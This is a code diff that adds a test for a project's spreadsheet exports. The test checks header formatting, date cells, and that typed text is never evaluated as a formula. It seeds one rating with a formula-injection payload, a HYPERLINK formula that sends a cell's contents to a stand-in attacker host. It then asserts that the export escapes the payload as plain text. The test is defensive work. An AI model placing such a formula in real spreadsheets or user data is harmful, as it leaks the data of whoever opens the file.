@@ -378,6 +378,29 @@ def test_the_export_has_a_sheet_per_table_with_the_written_ratings(pack, login, 
     assert openpyxl.load_workbook(io.BytesIO(public.content)).sheetnames == ["About", "Schemes"]
 
 
+def test_the_exports_write_dates_as_dates_and_never_a_formula(pack, ratings, login, analyst):
+    """The pack's workbook and the portfolio page's export are the formatted export: a bold,
+    frozen header, the day a rating was updated as a date, typed text never calculated."""
+    from bettercare.spreadsheets import DATE
+
+    hostile = ratings[1]
+    hostile.narrative = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    hostile.save()
+    client = login(analyst)
+    for content in (
+        client.get(url("pack_export", pack)).content,
+        client.get(url("portfolio") + "?quarter=2018-19-Q2&_export=xlsx").content,
+    ):
+        sheet = openpyxl.load_workbook(io.BytesIO(content))["Portfolio"]
+        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
+        header = [cell.value for cell in sheet[1]]
+        carers_row = dict(zip(header, sheet[2], strict=True))
+        assert carers_row["Narrative"].value == "'" + hostile.narrative
+        assert carers_row["Narrative"].data_type == "s"
+        assert carers_row["Updated"].value.date() == hostile.updated.date()
+        assert carers_row["Updated"].number_format == DATE
+
+
 def test_portfolio_ratings_page_keeps_what_was_typed_and_saves(carers, clusters, login, analyst):
     client = login(analyst)
     page = client.get(url("portfolio_edit") + "?quarter=2018-19-Q2")
